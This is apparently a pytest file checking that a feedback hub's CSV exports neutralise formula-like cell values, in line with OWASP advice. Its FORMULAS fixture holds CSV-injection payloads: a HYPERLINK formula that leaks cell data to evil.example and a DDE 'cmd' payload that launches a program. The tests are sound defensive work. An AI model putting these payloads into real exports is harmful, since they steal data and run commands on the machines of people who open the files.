"""Item 10: a name a spreadsheet would run as a formula goes into every CSV export as text,
while negative numbers stay numbers; so does a survey option worded as one (issue 15)."""

import csv
import io
from collections.abc import Iterable
from datetime import timedelta

import pytest
from sqlalchemy import update
from sqlalchemy.orm import Session, sessionmaker

from hub.hierarchy import LocationTree
from hub.ingest import store
from hub.models import Event
from hub.reporting.exports import csv_lines, reasons_csv, responses_csv, scores_csv
from hub.rollups.buckets import Period
from protocol.messages import Button
from tests.hub.factories import NOON, press
from tests.hub.reporting.followup_data import PERIOD, Traffic, add_places
from tests.hub.surveys.survey_files import SECURITY, security

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
)
DAY = Period(NOON - timedelta(days=1), NOON + timedelta(hours=1))


def _cells(chunks: Iterable[str]) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(chunks))))


def _place(session: Session, location_id: str, name: str, parent: str | None) -> None:
    location = store.add_location(session, location_id=location_id, name=name, time_zone="UTC")
    location.kind, location.parent_id = ("touchpoint", parent) if parent else ("site", None)
    session.flush()


@pytest.fixture
def hostile(sessions: sessionmaker[Session]) -> sessionmaker[Session]:
    """A site and three touchpoints named like formulas, pressed at; one kiosk's clock behind."""
    with sessions.begin() as session:
        _place(session, "hel", FORMULAS[0], None)
        for i, name in enumerate(FORMULAS[1:], start=1):
            _place(session, f"t{i}", name, "hel")
            store.store_events(
                session,
                events=[press(Button.UNHAPPY, device_id=f"k{i}", location_id=f"t{i}")],
                received_at=NOON,
            )
        session.execute(update(Event).where(Event.location_id == "t1").values(clock_offset_s=-2.5))
    return sessions


@pytest.mark.parametrize("export", ["responses", "scores-by-location", "scores-by-day", "reasons"])
def test_no_cell_of_an_export_starts_a_formula(hostile: sessionmaker[Session], export: str) -> None:
    with hostile() as session:
        tree = LocationTree.load(session)
        everywhere = set(tree.places)
        chunks = {
            "responses": lambda: responses_csv(session, everywhere, DAY),
            "scores-by-location": lambda: scores_csv(session, tree, everywhere, DAY, "location"),
            "scores-by-day": lambda: scores_csv(session, tree, everywhere, DAY, "day"),
            "reasons": lambda: reasons_csv(session, tree, everywhere, DAY),
        }[export]()
        rows = _cells(chunks)
    names = {row[rows[0].index("location_name")] for row in rows[1:]}
    assert names >= {f"'{formula}" for formula in FORMULAS[1:]}
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or float(cell) < 0, cell


def _formula_survey() -> str:
    """The security survey with two options worded as formulas (in its default language)."""
    text = SECURITY.replace('en = "Staff"', f"en = '{FORMULAS[0]}'")
    return text.replace('en = "Fast"', f"en = '{FORMULAS[3]}'")


@pytest.mark.parametrize("export", ["responses", "reasons"])
def test_an_option_worded_as_a_formula_is_exported_as_text(
    sessions: sessionmaker[Session], export: str
) -> None:
    traffic = Traffic()
    traffic.add(Button.UNHAPPY, "staff")
    traffic.add(Button.HAPPY, "fast", location_id="lane-2")
    with sessions.begin() as session:
        add_places(session, security(_formula_survey()))
        traffic.store(session)
    with sessions() as session:
        tree = LocationTree.load(session)
        places = set(tree.places)
        if export == "responses":
            rows = _cells(responses_csv(session, places, PERIOD))
        else:
            rows = _cells(reasons_csv(session, tree, places, PERIOD))
    column = "followup_label" if export == "responses" else "label"
    labels = {row[rows[0].index(column)] for row in rows[1:]}
    assert labels >= {f"'{FORMULAS[0]}", f"'{FORMULAS[3]}"}
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_negative_numbers_stay_numbers(hostile: sessionmaker[Session]) -> None:
    with hostile() as session:
        rows = _cells(responses_csv(session, {"t1"}, DAY))
    [offset] = [row[rows[0].index("clock_offset_s")] for row in rows[1:]]
    assert offset == "-2.5"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1+1", "'-1+1"),
        ("-12.5", "-12.5"),
        (-3, "-3"),
        (-0.25, "-0.25"),
        ("a=1", "a=1"),
    ],
)
def test_cells_are_neutralised_as_owasp_recommends(cell: object, written: str) -> None:
    [[out]] = _cells([csv_lines([[cell]])])
    assert out == written
